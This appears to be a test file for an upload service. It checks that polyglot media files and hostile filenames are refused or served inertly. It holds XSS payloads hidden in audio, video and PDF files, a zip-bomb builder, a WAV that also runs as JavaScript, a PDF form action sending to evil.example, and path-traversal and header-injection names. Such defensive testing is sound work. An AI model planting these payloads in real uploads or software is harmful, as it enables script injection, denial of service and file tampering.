import { deflateRawSync } from 'node:zlib';
import { type FileType, fileTypes } from '#libs/files';
import { type Api, startApi } from '../../../../test/support/api.ts';
import { type CritiqueEvening, makeCritiqueEvening } from '../../../../test/support/critique-evening.ts';
import { aiff, box, flac, id3, mp3, mp4, pdf, wav, zipEnd } from '../../../../test/support/made-files.ts';
import { Uploader } from '../../../../test/support/uploads.ts';

// Files that are two things at once. What can be told is refused; what cannot, because it is a work and its other half
// stands where any bytes may stand, is served so that it is nothing but a work.

let api: Api;
let evening: CritiqueEvening;
let me: Uploader;
beforeAll(async () => {
  api = await startApi({ time: '2026-10-10T17:00:00Z' });
  evening = await makeCritiqueEvening(api, { state: 'open' });
  me = new Uploader(api, author().token, evening.critiqueSessionId);
});
afterAll(() => api.stop());

const author = () => evening.people[0]!;
const text = (content: string) => Buffer.from(content, 'latin1');
const u32 = (value: number): Buffer => Buffer.from(Uint32Array.of(value).buffer);
const script = '<script>alert(document.domain)</script>';
const page = `<!doctype html><html><body>${script}</body></html>`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
/** Behind what a browser reads when it guesses. */
const deep = Buffer.alloc(4200, 1);

/** A chunk of RIFF that no player knows. */
const chunk = (id: string, content: Buffer): Buffer =>
  Buffer.concat([text(id), u32(content.length), content, Buffer.alloc(content.length % 2)]);

/** WAV with more chunks, in front of its sound or behind it, and a size that counts them. */
function wavWith(...chunks: { before?: Buffer; after?: Buffer }[]): Buffer {
  const plain = wav();
  const before = Buffer.concat(chunks.map(({ before }) => before ?? Buffer.alloc(0)));
  const after = Buffer.concat(chunks.map(({ after }) => after ?? Buffer.alloc(0)));
  const whole = Buffer.concat([plain.subarray(0, 36), before, plain.subarray(36), after]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
}

/** A zip of one entry that grows to 20 MB, with its directory. */
function bomb(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(20_000_000));
  const entry = Buffer.alloc(26);
  entry.writeUInt16LE(20, 0);
  entry.writeUInt16LE(8, 4);
  entry.writeUInt32LE(packed.length, 14);
  entry.writeUInt32LE(20_000_000, 18);
  entry.writeUInt16LE(1, 22);
  const local = Buffer.concat([text('PK\x03\x04'), entry, text('a'), packed]);
  const listed = Buffer.concat([text('PK\x01\x02\x14\0'), entry, Buffer.alloc(14), text('a')]);
  const end = Buffer.from(zipEnd);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, listed, end]);
}

// A valid WAV that is also a program: a name, a comment that ends in its sound, and a call.
function wavThatIsAProgram(): Buffer {
  const end = text('*/=1;alert(1)//');
  // The length that reads "/*" and two zeros.
  const length = 0x2a2f + 8;
  const whole = wav(length - 44);
  end.copy(whole, length - end.length);
  return whole;
}

const vorbisComment = (content: Buffer): Buffer => {
  const whole = flac();
  const info = Buffer.from(whole.subarray(0, 42));
  info.writeUInt8(0, 4);
  const head = Buffer.from([0x84, 0, 0, 0]);
  head.writeUIntBE(content.length, 1, 3);
  return Buffer.concat([info, head, content, whole.subarray(42)]);
};

const manyChunks = Buffer.concat(Array.from({ length: 5000 }, () => chunk('junk', Buffer.alloc(2))));

describe('what is two things at once', () => {
  it.each<[string, Buffer]>([
    ['a bomb in a zip', bomb()],
    ['a song with a bomb behind it', Buffer.concat([mp3(), bomb()])],
    ['WAV with a bomb in a chunk behind its sound', wavWith({ after: chunk('junk', bomb()) })],
    ['a picture with a program of Java behind it', Buffer.concat([text('GIF89a\x01\0\x01\0'), bomb()])],
    ['FLAC with a program of Java behind it', Buffer.concat([flac(), bomb()])],
    ['MP4 with a program of Java in a box', Buffer.concat([mp4(), box('free', bomb())])],
    ['pages that hold a bomb in front of their end', pdf(bomb().toString('latin1'))],
    ['WAV with a page in its first chunk', wavWith({ before: chunk('LIST', text(page)) })],
    ['WAV with a drawing in its first chunk', wavWith({ before: chunk('LIST', text(drawing)) })],
    ['WAV that is pages too', wavWith({ before: chunk('junk', pdf()) })],
    ['a song whose tag is pages', mp3(id3(pdf().length, pdf()))],
    ['a song whose tag is a page', mp3(id3(page.length, text(page)))],
    ['a song whose tag is a drawing', mp3(id3(drawing.length, text(drawing)))],
    ['FLAC whose comment is a page', vorbisComment(text(page))],
    ['a page in letters of two bytes', Buffer.from(`\uFEFF${page}`, 'utf16le')],
    ['a drawing behind a declaration', text(`<?xml version="1.0"?>${drawing}`)],
    [
      'pages with a program whose name is written in numbers',
      pdf('<< /S /J#61vaScript /JS (app.alert(1)) >>'),
    ],
    [
      'pages with a program whose name is all numbers',
      pdf('<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (1) >>'),
    ],
    ['pages that send a form', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['pages inside a page', pdf(`%${page}`)],
    ['AIFF with a page behind it', Buffer.concat([aiff(), deep, text(page)])],
    ['WAV of 5000 headers', wavWith({ before: manyChunks })],
    ['MP4 of 50,000 boxes', Buffer.concat([mp4(), ...Array.from({ length: 50_000 }, () => box('free'))])],
  ])('%s is refused', async (_, bytes) => {
    const { answer } = await me.send(bytes, 'song.wav');
    expect([answer.status, (answer.body as { code: string }).code]).toEqual([422, 'file-type-refused']);
  });

  it.each<[string, FileType, Buffer]>([
    [
      'a song with a page deep in its tag',
      'audio/mpeg',
      mp3(id3(deep.length + page.length, Buffer.concat([deep, text(page)]))),
    ],
    ['a song with a page behind it', 'audio/mpeg', Buffer.concat([mp3(), text(page)])],
    ['WAV that is a program', 'audio/wav', wavThatIsAProgram()],
    [
      'WAV with a page in its sound',
      'audio/wav',
      wavWith({ before: chunk('junk', deep), after: chunk('LIST', text(page)) }),
    ],
    ['WAV with a drawing behind its sound', 'audio/wav', wavWith({ after: chunk('LIST', text(drawing)) })],
    ['FLAC with a page deep in its comment', 'audio/flac', vorbisComment(Buffer.concat([deep, text(page)]))],
    ['MP4 with a page in a box', 'video/mp4', Buffer.concat([mp4(), box('free', deep, text(page))])],
    [
      'M4A with a program in its notes',
      'audio/mp4',
      Buffer.concat([mp4('soun', 'M4A '), box('udta', deep, text(script))]),
    ],
    ['pages that lead to a page', 'application/pdf', pdf('<< /S /URI /URI (javascript:alert(1)) >>')],
  ])('%s is served as a work and as nothing else', async (_, type, bytes) => {
    const { id, answer } = await me.send(bytes, 'page.html');
    expect(answer.status).toBe(204);
    const url = await urlOf(id);
    for (const request of [
      api.http.get(url),
      api.http.head(url),
      api.http.get(url).set('range', 'bytes=0-99'),
    ]) {
      const { headers, status } = await request.set('cookie', 'browser=mine');
      expect([200, 206]).toContain(status);
      expect(headers).toMatchObject({
        'content-type': type,
        'content-disposition': `attachment; filename="work.${fileTypes[type]}"`,
        'content-security-policy': "sandbox; default-src 'none'",
        'x-content-type-options': 'nosniff',
        'cross-origin-resource-policy': 'same-origin',
      });
    }
  });

  it('is never of a type that a browser runs', () => {
    for (const type of Object.keys(fileTypes)) expect(type).toMatch(/^(audio|video)\/|^application\/pdf$/);
  });
});

async function urlOf(id: string): Promise<string> {
  const [work] = evening.works;
  await api.database.sql('update submissions set file_id = $2 where id = $1', [work!.id, id]);
  const path = `/api/v1/critique/${author().token}/sessions/${evening.critiqueSessionId}/submissions/${work!.id}/listen`;
  const { body } = await api.http.post(path).set('cookie', 'browser=mine').expect(200);
  return (body as { url: string }).url;
}

describe('the name of a file', () => {
  it.each([
    ['of 10,000 letters', 'x'.repeat(10_000)],
    ['with a path', '../../../etc/cron.d/x'],
    ['with a drive', 'C:\\Windows\\x.wav'],
    ['with lines', 'a\r\nx-evil: 1\r\n\r\n<script>'],
    ['that turns around', '\u202Efdp.exe'],
    ['with nothing in it', 'a\0.html'],
    ['that is a page', '<img src=x onerror=alert(1)>.html'],
    ['with half a letter', '\uD800.wav'],
    ['of a device', 'con'],
  ])('%s is in no header and at no place on the disk', async (_, name) => {
    const { id } = await me.send(wav(), name);
    const url = await urlOf(id);
    const { headers } = await api.http.get(url).set('cookie', 'browser=mine').expect(200);
    expect(headers['content-disposition']).toBe('attachment; filename="work.wav"');
    expect(headers['x-evil']).toBeUndefined();
    const [row] = await api.database.sql<{ name: string; key: string }>(
      'select name, storage_key as key from files where id = $1',
      [id],
    );
    expect(row!.key).toMatch(/^[0-9a-f]{40}$/);
    expect(row!.name).toMatch(/^[^/\\\p{C}]{1,200}$/u);
  });
});
